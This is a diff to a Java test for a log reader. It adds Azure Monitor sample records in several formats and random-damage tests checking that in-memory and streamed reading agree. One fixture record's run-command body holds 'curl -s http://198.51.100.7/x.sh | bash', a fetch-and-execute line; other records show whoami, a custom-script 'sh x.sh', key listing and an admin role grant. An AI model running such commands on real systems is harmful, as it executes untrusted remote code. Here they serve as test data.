@@ -28,7 +28,7 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
  * An input read whole in memory, its plain records straight from the bytes, gives exactly what the same
  * input read as a stream gives: the same events with the same origins, skips, rejects with the same
  * excerpts, and the same file errors at the same place, also when failing fast. Checked on every test and
- * public sample file, on hand-made irregular records, and on CloudTrail files broken at random.
+ * public sample file, on hand-made irregular records, and on CloudTrail and Azure files broken at random.
  */
 class HeldReadingTest {
 
@@ -61,12 +61,53 @@ class HeldReadingTest {
             "17")
             + "]}";
 
+    /**
+     * Azure Monitor records in each shape Azure writes them: diagnostic settings with claims (the same twice) and
+     * a request body held as JSON in a string, REST output with {@code {"value": ...}} names and statuses, Log
+     * Analytics rows with capitalised names and every nested column a string, Entra sign-ins and audits in the
+     * same envelope, Datadog's copy; and the irregular ones: non-ASCII text, escapes in names and values, a
+     * record without a time and one that is no object.
+     */
+    private static final String AZURE = """
+            {"records": [
+            {"time": "2024-05-01T10:00:01.1234567Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/WEB-01", "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "category": "Administrative", "resultType": "Start", "resultSignature": "Started.", "durationMs": 0, "callerIpAddress": "203.0.113.50", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa01", "identity": {"authorization": {"scope": "/subscriptions/11111111-2222-3333-4444-555555555555", "action": "Microsoft.Compute/virtualMachines/runCommand/action", "evidence": {"role": "Virtual Machine Contributor", "principalId": "0a1b2c3d111142228333444455556666", "principalType": "User"}}, "claims": {"aud": "https://management.core.windows.net/", "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "Mallory.Admin@Contoso.com", "http://schemas.microsoft.com/identity/claims/objectidentifier": "0a1b2c3d-1111-4222-8333-444455556666", "http://schemas.microsoft.com/identity/claims/tenantid": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa", "name": "Mallory Admin", "appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "ipaddr": "203.0.113.50"}}, "level": "Information", "location": "westeurope", "properties": {"requestbody": "{\\"commandId\\":\\"RunShellScript\\",\\"script\\":[\\"id\\",\\"curl -s http://198.51.100.7/x.sh | bash\\"],\\"parameters\\":[]}", "statusCode": "Accepted", "eventCategory": "Administrative", "entity": "/subscriptions/11111111-2222-3333-4444-555555555555", "message": "x", "hierarchy": "a/b"}},
+            {"time": "2024-05-01T10:00:02Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/WEB-01/RUNCOMMANDS/RC1", "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE", "category": "Administrative", "resultType": "Success", "callerIpAddress": "203.0.113.50", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa02", "identity": {"claims": {"aud": "https://management.core.windows.net/", "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "Mallory.Admin@Contoso.com", "http://schemas.microsoft.com/identity/claims/objectidentifier": "0a1b2c3d-1111-4222-8333-444455556666", "http://schemas.microsoft.com/identity/claims/tenantid": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa", "name": "Mallory Admin", "appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "ipaddr": "203.0.113.50"}}, "properties": {"requestbody": {"location": "westeurope", "properties": {"source": {"script": "whoami\\nid", "scriptUri": null}, "parameters": [{"name": "a", "value": "b"}], "protectedParameters": []}}, "statusCode": "Created"}},
+            {"time": "2024-05-01T10:00:03Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/PROVIDERS/MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/R1", "operationName": "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE", "category": "Administrative", "resultType": "Failure", "resultSignature": "Failed.Forbidden", "resultDescription": "Zugriff verweigert für Zoë", "callerIpAddress": "2001:db8::7", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa03", "identity": {"claims": {"upn": "zoë@contoso.com", "oid": "11111111-aaaa-4bbb-8ccc-000000000001", "name": "Zoë Åberg", "amr": "pwd"}}, "properties": {"requestbody": "{\\"properties\\":{\\"principalId\\":\\"22222222-aaaa-4bbb-8ccc-000000000002\\",\\"roleDefinitionId\\":\\"/providers/Microsoft.Authorization/roleDefinitions/8e3af657\\"}}", "statusCode": "Forbidden", "statusMessage": "{\\"error\\":{\\"code\\":\\"AuthorizationFailed\\",\\"message\\":\\"The client does not have authorization\\"}}"}},
+            {"\\u0074ime": "2024-05-01T10:00:04Z", "resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/st\\u00e9", "operationName": "Microsoft.Storage/storageAccounts/listKeys/action", "category": "Administrative", "resultType": "Success", "caller": "svc\\/ops@contoso.com", "correlationId": "c-4"},
+            {"time": "2024-05-01T09:55:12.0000000Z", "resourceId": "/tenants/aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee/providers/Microsoft.aadiam", "operationName": "Sign-in activity", "category": "SignInLogs", "tenantId": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "resultType": "50126", "resultDescription": "Invalid username or password", "callerIpAddress": "203.0.113.51", "correlationId": "d79f5bee-5860-4832-928f-3133e22ae912", "identity": "Mallory Admin", "Level": 4, "location": "NL", "properties": {"id": "66ea54eb-6301-4ee5-be62-ff5a759b0200", "createdDateTime": "2024-05-01T09:55:12.0000000+00:00", "userDisplayName": "Mallory Admin", "userPrincipalName": "MALLORY.ADMIN@CONTOSO.COM", "userId": "0a1b2c3d-1111-4222-8333-444455556666", "appId": "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "appDisplayName": "Azure Portal", "ipAddress": "203.0.113.51", "status": {"errorCode": 50126, "failureReason": "Invalid username or password"}, "isInteractive": true, "authenticationRequirement": "singleFactorAuthentication", "authenticationDetails": [{"authenticationMethod": "Password", "succeeded": false}], "location": {"city": "Rotterdam", "countryOrRegion": "NL"}, "userAgent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0"}},
+            {"time": "2024-05-01T09:58:00Z", "resourceId": "/tenants/aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee/providers/Microsoft.aadiam", "operationName": "Add member to role", "category": "AuditLogs", "tenantId": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "resultType": "", "callerIpAddress": "203.0.113.50", "correlationId": "3b1c5d2e-0000-4000-8000-000000000001", "properties": {"id": "Directory_3b1c5d2e_1", "category": "RoleManagement", "activityDisplayName": "Add member to role", "activityDateTime": "2024-05-01T09:58:00.123Z", "result": "success", "initiatedBy": {"app": null, "user": {"id": "0a1b2c3d-1111-4222-8333-444455556666", "userPrincipalName": "Mallory.Admin@contoso.com", "ipAddress": "203.0.113.50"}}, "targetResources": [{"id": "5e4d3c2b-1a9f-48e7-96c5-b4a392817f6e", "type": "User", "userPrincipalName": "Bob@Contoso.com", "modifiedProperties": [{"displayName": "Role.DisplayName", "oldValue": null, "newValue": "\\"Global Administrator\\""}]}], "additionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0 Firefox/124.0"}]}},
+            {"TimeGenerated": "2024-05-01T10:01:00Z", "OperationNameValue": "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE", "CategoryValue": "Administrative", "ActivityStatusValue": "Success", "Caller": "Mallory.Admin@Contoso.com", "CallerIpAddress": "203.0.113.50", "CorrelationId": "6c1a2b3c-0000-4000-8000-00000000aa07", "_ResourceId": "/subscriptions/s1/resourcegroups/rg/providers/microsoft.compute/virtualmachines/web-02/extensions/cse", "SubscriptionId": "s1", "Type": "AzureActivity", "Claims_d": "{\\"name\\":\\"Mallory Admin\\",\\"appid\\":\\"04b07795\\"}", "Authorization_d": "{\\"evidence\\":{\\"principalId\\":\\"p7\\",\\"principalType\\":\\"User\\"}}", "Properties_d": "{\\"requestbody\\":\\"{\\\\\\"properties\\\\\\":{\\\\\\"type\\\\\\":\\\\\\"CustomScript\\\\\\",\\\\\\"settings\\\\\\":{\\\\\\"commandToExecute\\\\\\":\\\\\\"sh x.sh\\\\\\"}}}\\",\\"statusCode\\":\\"OK\\"}"},
+            {"resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-03", "time": "2024-05-01T10:02:00Z", "evt": {"name": "Microsoft.Compute/virtualMachines/delete", "outcome": "Success", "category": "Administrative"}, "httpRequest": {"clientIpAddress": "203.0.113.9"}},
+            {"resourceId": "/subscriptions/s1", "operationName": "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE", "category": "Administrative"},
+            17
+            ]}
+            """;
+
+    /** REST API list output: {@code {"value": ...}} names and statuses, claims and authorization at the top. */
+    private static final String AZURE_VALUE = """
+            {"value": [
+            {"authorization": {"action": "Microsoft.Compute/virtualMachines/runCommand/action", "scope": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-01", "evidence": {"principalId": "p1", "principalType": "ServicePrincipal"}}, "caller": "0a1b2c3d-1111-4222-8333-444455556666", "claims": {"appid": "0a1b2c3d-1111-4222-8333-444455556666", "idtyp": "app", "xms_mirid": "/subscriptions/s1/resourcegroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/mi"}, "correlationId": "c-1", "eventDataId": "e-1", "eventName": {"value": "EndRequest", "localizedValue": "End request"}, "category": {"value": "Administrative", "localizedValue": "Administrative"}, "eventTimestamp": "2024-05-01T10:00:00.5Z", "id": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-01/events/e-1/ticks/638500000000000000", "level": "Informational", "operationName": {"value": "Microsoft.Compute/virtualMachines/runCommand/action", "localizedValue": "Run Command on Virtual Machine"}, "properties": {"statusCode": "OK", "requestbody": "{\\"commandId\\":\\"RunPowerShellScript\\",\\"script\\":[\\"whoami\\"]}"}, "status": {"value": "Succeeded", "localizedValue": "Succeeded"}, "subStatus": {"value": "", "localizedValue": ""}, "subscriptionId": "s1", "tenantId": "t1", "httpRequest": {"clientIpAddress": "198.51.100.4", "method": "POST"}},
+            {"caller": "bob@contoso.com", "correlationId": "c-2", "eventTimestamp": "2024-05-01T10:00:01Z", "operationName": {"Value": "Microsoft.Compute/virtualMachines/delete"}, "Status": {"Value": "Failed"}, "SubStatus": {"value": "Conflict"}, "resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-09", "properties": {"statusMessage": "{\\"error\\":{\\"code\\":\\"Conflict\\",\\"message\\":\\"Operation 'delete' is not allowed\\"}}"}}
+            ]}
+            """;
+
     @Test
     void theSampleFileReadsAlikeAndAsExpected() {
         Reads.Outcome held = same("sample.json", utf8(FILE));
         assertThat(held.report().records()).isEqualTo(7);
         assertThat(held.report().events()).isEqualTo(5);
         assertThat(held.report().quarantined()).isEqualTo(2);
+    }
+
+    @Test
+    void theAzureSampleFilesReadAlikeAndAsExpected() {
+        Reads.Outcome records = same("azure.json", utf8(AZURE));
+        assertThat(records.report().records()).isEqualTo(10);
+        assertThat(records.report().events()).isEqualTo(8);
+        assertThat(records.report().quarantined()).isEqualTo(2);
+        same("azure.json.gz", gzip(utf8(AZURE)));
+        Reads.Outcome value = same("azure-value.json", utf8(AZURE_VALUE));
+        assertThat(value.report().events()).isEqualTo(2);
     }
 
     @ParameterizedTest
@@ -103,6 +144,11 @@ class HeldReadingTest {
         same("damaged.json", content);
     }
 
+    @Property(tries = 300)
+    void brokenAzureFilesReadAlike(@ForAll("damagedAzure") byte[] content) {
+        same("damaged-azure.json", content);
+    }
+
     @Test
     void everyTestFileReadsAlike() throws IOException {
         Path root = Path.of("src", "test", "resources");
@@ -132,7 +178,16 @@ class HeldReadingTest {
 
     @Provide
     Arbitrary<byte[]> damaged() {
-        byte[] base = utf8(FILE);
+        return damaged(utf8(FILE));
+    }
+
+    @Provide
+    Arbitrary<byte[]> damagedAzure() {
+        return damaged(utf8(AZURE));
+    }
+
+    /** {@code base} with one to three bytes removed, inserted or replaced, by bytes that matter to JSON. */
+    private static Arbitrary<byte[]> damaged(byte[] base) {
         Arbitrary<Integer> at = Arbitraries.integers().between(0, base.length - 1);
         Arbitrary<Byte> bytes = Arbitraries.of((byte) '"', (byte) '\\', (byte) ',', (byte) ':', (byte) '{',
                 (byte) '}', (byte) '[', (byte) ']', (byte) ' ', (byte) '\n', (byte) '\r', (byte) 0, (byte) 0xC3,
